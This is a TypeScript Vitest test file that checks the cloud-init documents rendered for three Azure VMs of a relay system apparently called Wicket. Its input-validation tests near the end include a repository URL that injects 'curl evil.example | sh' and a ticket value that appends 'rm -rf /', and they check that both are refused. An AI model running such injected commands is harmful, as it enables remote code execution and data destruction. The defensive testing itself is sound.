import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { inspect } from 'node:util';
import { describe, expect, it } from 'vitest';
import { gatewaySpecSchema } from '../../agent/gateway/gateway-spec.js';
import { parseNodeConfig } from '../../agent/node-config.js';
import { isWicketError } from '../../protocol/errors.js';
import { Secret } from '../../protocol/secret.js';
import { encodeTicket } from '../../protocol/ticket.js';
import {
  aiCorpCloudConfig,
  CUSTOM_DATA_MAX_BYTES,
  healthCorpCloudConfig,
  parseCloudConfig,
  relayCloudConfig,
  type CloudConfig,
} from '../../scripts/azure/cloud-init.js';

// The three VMs' first boot, read from the rendered documents: which commands run, as whom, with
// what configuration, and that an agent's ticket is the only secret in its document.

const SOURCE = { repo: 'https://github.com/example/wicket.git', ref: '0123456789abcdef0123456789abcdef01234567' };
const RELAY_URL = 'wss://203.0.113.10:443';
const AOAI = { region: 'eastus', endpoint: 'https://wicket-abc123-aoai.openai.azure.com/' };

function ticket(): Secret<string> {
  return new Secret(
    encodeTicket({
      relayUrl: RELAY_URL,
      relayCertFingerprint: randomBytes(32),
      authorityPublicKey: randomBytes(32),
      ticketId: randomBytes(16),
      secret: new Secret(randomBytes(32)),
      expiresAt: Date.now() + 3_600_000,
    }),
  );
}

function file(config: CloudConfig, path: string): string {
  const f = config.write_files.find((w) => w.path === path);
  if (!f) throw new Error(`no ${path} in ${config.write_files.map((w) => w.path).join(', ')}`);
  return f.content;
}

function permissionsOf(config: CloudConfig, path: string): string | undefined {
  return config.write_files.find((w) => w.path === path)?.permissions;
}

const outletTicket = ticket();
const inletTicket = ticket();
const relayDoc = relayCloudConfig(SOURCE, RELAY_URL);
const aiDoc = aiCorpCloudConfig(SOURCE, outletTicket, AOAI);
const healthDoc = healthCorpCloudConfig(SOURCE, inletTicket, 'gpt-4o-mini');
const relay = parseCloudConfig(relayDoc.reveal());
const ai = parseCloudConfig(aiDoc.reveal());
const health = parseCloudConfig(healthDoc.reveal());
const ENROLL = 'runuser -u wicket -- env WICKET_HOME=/var/lib/wicket /usr/bin/node /opt/wicket/bin/agent.js enroll --ticket-file /etc/wicket/ticket';

describe('cloud-init documents', () => {
  it('every VM installs Node 20 and Wicket at WICKET_REF, as the unprivileged system user wicket', () => {
    for (const config of [relay, ai, health]) {
      expect(config.runcmd).toEqual([['bash', '/usr/local/lib/wicket/bootstrap.sh']]);
      const install = file(config, '/usr/local/lib/wicket/install-wicket.sh');
      expect(install).toContain('https://deb.nodesource.com/node_20.x');
      expect(install).toContain(`git clone --quiet '${SOURCE.repo}' /opt/wicket`);
      expect(install).toContain(`git -C /opt/wicket checkout --quiet '${SOURCE.ref}'`);
      expect(install).toContain('npm ci --omit=dev');
      expect(install).toContain('useradd --system --home-dir /var/lib/wicket --shell /usr/sbin/nologin wicket');
      expect(JSON.stringify(config)).not.toMatch(/@@[A-Z_]+@@/);
    }
  });

  it('the relay VM runs `relay start` on 443 with its public URL, as wicket with only CAP_NET_BIND_SERVICE', () => {
    const unit = file(relay, '/etc/systemd/system/wicket-relay.service');
    expect(unit).toContain(`ExecStart=/opt/wicket/bin/relay.js start --listen 0.0.0.0:443 --data /var/lib/wicket-relay --public-url ${RELAY_URL}\n`);
    expect(unit).toContain('User=wicket\n');
    expect(unit).toContain('AmbientCapabilities=CAP_NET_BIND_SERVICE\n');
    expect(unit).toContain('CapabilityBoundingSet=CAP_NET_BIND_SERVICE\n');
    expect(unit).toContain('StateDirectoryMode=0700\n');
    const bootstrap = file(relay, '/usr/local/lib/wicket/bootstrap.sh');
    expect(bootstrap).toContain('systemctl enable --now wicket-relay.service');
    expect(bootstrap).toContain('test -s /var/lib/wicket-relay/admin-ticket');
    expect(relay.write_files.map((f) => f.path)).not.toContain('/etc/wicket/ticket');
  });

  it('AI Corp enrolls with its ticket, deletes it, and runs one agent whose outlet is the Azure OpenAI gateway', () => {
    expect(file(ai, '/etc/wicket/ticket')).toBe(`${outletTicket.reveal()}\n`);
    expect(permissionsOf(ai, '/etc/wicket/ticket')).toBe('0600');
    const bootstrap = file(ai, '/usr/local/lib/wicket/bootstrap.sh');
    expect(bootstrap).toContain(ENROLL);
    expect(bootstrap.indexOf('rm -f /etc/wicket/ticket')).toBeGreaterThan(bootstrap.indexOf(ENROLL));
    expect(bootstrap).toContain('services=(wicket-agent.service)\n');
    expect(bootstrap).toContain('start_once=()');
    const agent = file(ai, '/etc/systemd/system/wicket-agent.service');
    expect(agent).toContain('ExecStart=/opt/wicket/bin/agent.js node start --config /etc/wicket/node.json\n');
    expect(agent).toContain('User=wicket\n');
    // The gateway's usage ledger lives in the agent home, which the unit keeps writable.
    expect(agent).toContain('Environment=WICKET_HOME=/var/lib/wicket\n');
    expect(agent).toContain('StateDirectory=wicket\n');
    // A revoked node (exit 3) is not restarted forever.
    expect(agent).toContain('RestartPreventExitStatus=3\n');
    expect(JSON.parse(file(ai, '/etc/wicket/node.json'))).toEqual({
      outlets: [
        {
          name: 'openai',
          relay: 'openai',
          allow: 'openai-inlet',
          gateway: {
            kind: 'azure-openai',
            backends: [{ name: 'eastus', url: 'https://wicket-abc123-aoai.openai.azure.com', auth: { kind: 'entra' } }],
          },
        },
      ],
      inlets: [],
    });
  });

  it('AI Corp runs no separate token proxy: no unit, no program, nothing listening on 8081', () => {
    const paths = ai.write_files.map((f) => f.path);
    expect(paths.sort()).toEqual(
      ['/etc/systemd/system/wicket-agent.service', '/etc/wicket/node.json', '/etc/wicket/ticket', '/usr/local/lib/wicket/bootstrap.sh', '/usr/local/lib/wicket/install-wicket.sh'].sort(),
    );
    const text = aiDoc.reveal();
    expect(text).not.toMatch(/token-proxy|token proxy|AOAI_UPSTREAM|PROXY_LISTEN|8081/);
  });

  it("AI Corp's gateway authenticates with the VM's managed identity only: no API key anywhere", () => {
    const config = JSON.parse(file(ai, '/etc/wicket/node.json')) as { outlets: Array<{ gateway: unknown; to?: unknown }> };
    const gateway = gatewaySpecSchema().parse(config.outlets[0]?.gateway);
    expect(gateway.backends.map((b) => b.auth)).toEqual([{ kind: 'entra' }]);
    expect(gateway.backends[0]?.url).toBe('https://wicket-abc123-aoai.openai.azure.com');
    // The backends replace the TCP target: nothing for the inlet to steer, no plaintext hop.
    expect(config.outlets[0]).not.toHaveProperty('to');
    expect(aiDoc.reveal()).not.toMatch(/api-key|apiKey|AZURE_OPENAI_API_KEY/i);
  });

  it("refuses a backend the gateway would refuse, before any VM exists (cloud-init runs once)", () => {
    let caught: unknown;
    try {
      aiCorpCloudConfig(SOURCE, ticket(), { region: 'east us', endpoint: AOAI.endpoint });
    } catch (err) {
      caught = err;
    }
    expect(isWicketError(caught, 'WICKET_ERR_AZURE_CONFIG')).toBe(true);
    expect((caught as Error).message).toContain('outlets[0].gateway.backends[0].name');
  });

  it('Health Corp enrolls with its ticket, runs the inlet on 127.0.0.1:8443 and the demo client against it', () => {
    expect(file(health, '/etc/wicket/ticket')).toBe(`${inletTicket.reveal()}\n`);
    const bootstrap = file(health, '/usr/local/lib/wicket/bootstrap.sh');
    expect(bootstrap).toContain(ENROLL);
    expect(bootstrap).toContain('services=(wicket-agent.service)');
    expect(bootstrap).toContain('start_once=(wicket-demo.service)');
    expect(JSON.parse(file(health, '/etc/wicket/node.json'))).toEqual({
      outlets: [],
      inlets: [{ name: 'openai', from: '127.0.0.1:8443', via: 'openai', allow: 'openai-outlet' }],
    });
    const demo = file(health, '/usr/local/lib/wicket/run-demo.sh');
    expect(demo).toContain("examples/demo-client.ts \\\n      --endpoint 'http://127.0.0.1:8443' --deployment 'gpt-4o-mini'");
    expect(file(health, '/etc/systemd/system/wicket-demo.service')).toContain('User=wicket\n');
  });

  it("writes node.json files the agent's own parser accepts (the contract with `agent node start`)", () => {
    const outletSide = parseNodeConfig(file(ai, '/etc/wicket/node.json'), '/etc/wicket');
    expect(outletSide.outlets).toHaveLength(1);
    expect(outletSide.outlets[0]).toMatchObject({ relay: 'openai', allow: 'openai-inlet' });
    const inletSide = parseNodeConfig(file(health, '/etc/wicket/node.json'), '/etc/wicket');
    expect(inletSide.inlets).toHaveLength(1);
    expect(inletSide.inlets[0]).toMatchObject({ via: 'openai', allow: 'openai-outlet' });
  });

  it("holds no secret but the agent's own ticket: blank it out and no ticket or key remains", () => {
    for (const [doc, own] of [
      [aiDoc, outletTicket],
      [healthDoc, inletTicket],
    ] as const) {
      const text = doc.reveal();
      expect(text.split(own.reveal())).toHaveLength(2);
      const blanked = text.replace(own.reveal(), 'TICKET');
      expect(blanked).not.toMatch(/wkt1_/);
      expect(blanked).not.toMatch(/api-key\s*[:=]|Ocp-Apim|Bearer [A-Za-z0-9]/);
    }
    expect(relayDoc.reveal()).not.toMatch(/wkt1_/);
  });

  it('is a Secret that prints [REDACTED], and fits in Azure customData', () => {
    expect(String(aiDoc)).toBe('[REDACTED]');
    expect(inspect(healthDoc)).toBe('[REDACTED]');
    for (const doc of [relayDoc, aiDoc, healthDoc]) {
      expect(doc.reveal().startsWith('#cloud-config\n')).toBe(true);
      expect(Buffer.byteLength(doc.reveal())).toBeLessThan(CUSTOM_DATA_MAX_BYTES / 4);
    }
  });

  it('refuses a repository URL that could break out of its shell quotes, without echoing it', () => {
    const hostile = "https://example.com/x.git'; curl evil.example | sh; '";
    let caught: unknown;
    try {
      relayCloudConfig({ repo: hostile, ref: 'main' }, RELAY_URL);
    } catch (err) {
      caught = err;
    }
    expect(isWicketError(caught, 'WICKET_ERR_AZURE_CONFIG')).toBe(true);
    expect((caught as Error).message).toContain('WICKET_REPO');
    expect((caught as Error).message).not.toContain('evil');
  });

  it('refuses a ticket that is not one wkt1_ line, without echoing it', () => {
    for (const bad of ['wkt1_abc\nrm -rf /', 'not-a-ticket', `wkt1_${'A'.repeat(5000)}`]) {
      let caught: unknown;
      try {
        aiCorpCloudConfig(SOURCE, new Secret(bad), AOAI);
      } catch (err) {
        caught = err;
      }
      expect(isWicketError(caught, 'WICKET_ERR_TICKET_MALFORMED')).toBe(true);
      expect((caught as Error).message).not.toContain(bad.slice(0, 12));
    }
  });

  const python = spawnSync('python3', ['-c', 'import yaml'], { encoding: 'utf8' });
  const hasPyYaml = python.status === 0;
  if (!hasPyYaml) console.warn('skipping the YAML parse check: python3 with PyYAML (what cloud-init uses) is not installed');
  it.skipIf(!hasPyYaml)('parses as YAML the way cloud-init reads it (PyYAML safe_load) to the same document', () => {
    for (const doc of [relayDoc, aiDoc, healthDoc]) {
      const parsed = spawnSync('python3', ['-c', 'import sys, json, yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))'], {
        input: doc.reveal(),
        encoding: 'utf8',
      });
      expect(parsed.status).toBe(0);
      expect(JSON.parse(parsed.stdout)).toEqual(parseCloudConfig(doc.reveal()));
    }
  });
});
